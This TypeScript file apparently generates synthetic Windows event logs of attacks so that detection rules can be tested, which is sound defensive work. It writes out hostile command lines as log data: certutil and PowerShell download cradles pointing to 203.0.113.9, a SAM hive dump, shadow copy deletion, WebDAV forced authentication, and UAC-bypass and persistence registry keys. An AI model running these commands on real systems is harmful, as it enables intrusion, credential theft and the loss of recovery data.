/** Attacks in Windows event logs. */
import { alert, type Attack } from "./attack.ts";
import { MINUTE, SECOND, WINDOWS_HOSTS } from "./world.ts";

const SYSMON = "Microsoft-Windows-Sysmon";

/** Processes that one user starts on a workstation, each with its event 4688. */
const commands = (
  name: string,
  summary: string,
  rules: readonly string[],
  lines: readonly (readonly [path: string, line: string, parent?: string])[],
): Attack => ({
  name,
  summary,
  streams: ["windows"],
  lasts: 3 * MINUTE,
  play({ at, logs, id }) {
    const dest = "WS042.corp.example";
    const user = `victim${id}`;
    for (const [i, [path, line, parent]] of lines.entries()) {
      logs.windows(dest).process(
        at + i * 5 * SECOND,
        user,
        path,
        line,
        parent ?? "C:\\Windows\\System32\\cmd.exe",
      );
    }
    return rules.map((rule) => alert(rule, { dest }));
  },
});

const SYSTEM = "C:\\Windows\\System32\\";

export const WINDOWS_ATTACKS: readonly Attack[] = [
  {
    name: "windows_takeover",
    summary: "A new administrator account and service on a file server, then log clearing",
    streams: ["windows"],
    lasts: 10 * MINUTE,
    play({ at, logs, id }) {
      const dest = "FS01.corp.example";
      const log = logs.windows(dest);
      const user = `helpdesk${id}`;
      log.accountCreated(at, "mallory", user);
      log.memberAdded(at + 20 * SECOND, "mallory", user, "Administrators");
      log.serviceInstalled(at + 2 * MINUTE, `WinUpd${id}`, "%SystemRoot%\\Temp\\wu.exe");
      log.logCleared(at + 5 * MINUTE, "mallory");
      return ["account_created", "privileged_group", "new_service", "log_cleared"].map((rule) =>
        alert(rule, { dest })
      );
    },
  },
  {
    name: "internal_logon",
    summary: "Logons with one account from host to host, as pairs of an agent",
    streams: ["windows"],
    lasts: 5 * MINUTE,
    play({ at, logs, id }) {
      const user = `stolen${id}`;
      for (let i = 0; i < 2; i++) {
        const time = new Date(at + i * 2 * MINUTE).toISOString();
        logs.emit(
          "windows",
          at + i * 2 * MINUTE,
          `${time} Host=${WINDOWS_HOSTS[i]} EventID=4624 User=${user} Action=logon Target=10.0.89.${
            4 + i
          }`,
        );
      }
      return WINDOWS_HOSTS.slice(0, 2).map((src) => alert("internal_logon", { user, src }));
    },
  },
  commands("lolbin_abuse", "Ingress tool transfer with certutil, proxy execution with mshta", [
    "system_tool_downloads",
    "script_host_abused",
  ], [
    [SYSTEM + "certutil.exe", "certutil -urlcache -split -f http://203.0.113.9/a a.exe"],
    [SYSTEM + "mshta.exe", 'mshta vbscript:Close(Execute("GetObject()"))'],
  ]),
  commands("malicious_document", "Malicious Word document that starts encoded PowerShell", [
    "office_starts_shell",
    "powershell_encoded",
  ], [
    [
      SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe",
      "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
      "C:\\Program Files\\Microsoft Office\\WINWORD.EXE",
    ],
  ]),
  commands("web_shell", "Web shell on IIS", ["web_server_starts_shell"], [
    [SYSTEM + "cmd.exe", "cmd /c whoami", SYSTEM + "inetsrv\\w3wp.exe"],
  ]),
  commands("domain_discovery", "Discovery of domain accounts, groups and trusts", [
    "domain_reconnaissance",
  ], [
    [SYSTEM + "net.exe", 'net group "Domain Admins" /domain'],
    [SYSTEM + "net.exe", "net user /domain"],
    [SYSTEM + "nltest.exe", "nltest /domain_trusts"],
    [SYSTEM + "whoami.exe", "whoami /all"],
    [SYSTEM + "net.exe", "net localgroup administrators"],
  ]),
  commands("credential_dumping", "SAM hive dump and deletion of shadow copies", [
    "credential_stores_copied",
    "recovery_prevented",
  ], [
    [SYSTEM + "reg.exe", "reg save HKLM\\SAM C:\\Windows\\Temp\\s.sav"],
    [SYSTEM + "vssadmin.exe", "vssadmin delete shadows /all /quiet"],
  ]),
  commands("forced_authentication", "An appointment that has Windows log in to a share outside", [
    "webdav_forced_authentication",
  ], [
    [
      SYSTEM + "rundll32.exe",
      "rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie 203.0.113.9 http://203.0.113.9/a",
      SYSTEM + "svchost.exe",
    ],
  ]),
  {
    name: "windows_persistence",
    summary: "LSASS memory access, Run key, UAC bypass and WMI event subscription",
    streams: ["windows"],
    lasts: 5 * MINUTE,
    play({ at, logs }) {
      const dest = "WS042.corp.example";
      const log = logs.windows(dest);
      const sysmon = (s: number, id: number, data: Record<string, string>) =>
        log.event(at + s * SECOND, SYSMON, `${SYSMON}/Operational`, id, {
          RuleName: "-",
          UtcTime: new Date(at + s * SECOND).toISOString().slice(0, 23).replace("T", " "),
          ...data,
        });
      const image = "C:\\Users\\victor\\AppData\\x.exe";
      sysmon(0, 10, {
        SourceImage: image,
        SourceProcessId: "5120",
        TargetImage: SYSTEM + "lsass.exe",
        TargetProcessId: "700",
        GrantedAccess: "0x1010",
      });
      sysmon(20, 13, {
        EventType: "SetValue",
        ProcessId: "5120",
        Image: image,
        TargetObject: "HKU\\S-1-5-21-1\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd",
        Details: image,
        User: "CORP\\victor",
      });
      sysmon(40, 13, {
        EventType: "SetValue",
        ProcessId: "5120",
        Image: image,
        TargetObject: "HKU\\S-1-5-21-1_Classes\\ms-settings\\shell\\open\\command\\(Default)",
        Details: "cmd.exe",
        User: "CORP\\victor",
      });
      sysmon(60, 20, {
        EventType: "WmiConsumerEvent",
        Operation: "Created",
        User: "CORP\\victor",
        Name: "upd",
        Type: "Command Line",
        Destination: "cmd.exe",
      });
      return ["lsass_memory", "run_key", "uac_bypass", "wmi_subscription"].map((rule) =>
        alert(rule, { dest })
      );
    },
  },
  {
    name: "defense_evasion",
    summary: "PowerShell download cradle, Defender and auditing disabled, PsExec service",
    streams: ["windows"],
    lasts: 5 * MINUTE,
    play({ at, logs }) {
      const dest = "FS01.corp.example";
      const log = logs.windows(dest);
      const [shell, defender] = [
        "Microsoft-Windows-PowerShell",
        "Microsoft-Windows-Windows Defender",
      ];
      log.event(at, shell, `${shell}/Operational`, 4104, {
        MessageNumber: "1",
        MessageTotal: "1",
        ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
        ScriptBlockId: "{0c1f}",
        Path: "",
      });
      log.event(at + 20 * SECOND, defender, `${defender}/Operational`, 1116, {
        "Threat Name": "Trojan:Win32/Simulated",
        "Severity Name": "Severe",
        "Category Name": "Trojan",
        Path: "file:_C:\\Windows\\Temp\\wu.exe",
        "Detection User": "CORP\\mallory",
        "Process Name": "Unknown",
        "Action Name": "Not Applicable",
      });
      log.event(at + 40 * SECOND, defender, `${defender}/Operational`, 5001, {
        "Product Name": "Microsoft Defender Antivirus",
        "Product Version": "4.18.2601.1",
      });
      log.security(at + 60 * SECOND, 4719, {
        SubjectUserSid: "S-1-5-21-1-2-3-1104",
        SubjectUserName: "mallory",
        SubjectDomainName: "CORP",
        SubjectLogonId: "0x3e7",
        CategoryId: "%%8274",
        SubcategoryId: "%%12544",
        SubcategoryGuid: "{0cce9215-69ae-11d9-bed3-505054503030}",
        AuditPolicyChanges: "%%8448",
      });
      log.serviceInstalled(at + 80 * SECOND, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
      return [
        "powershell_download",
        "malware_found",
        "protection_disabled",
        "audit_policy_changed",
        "remote_service",
        "new_service",
      ].map((rule) => alert(rule, { dest }));
    },
  },
];
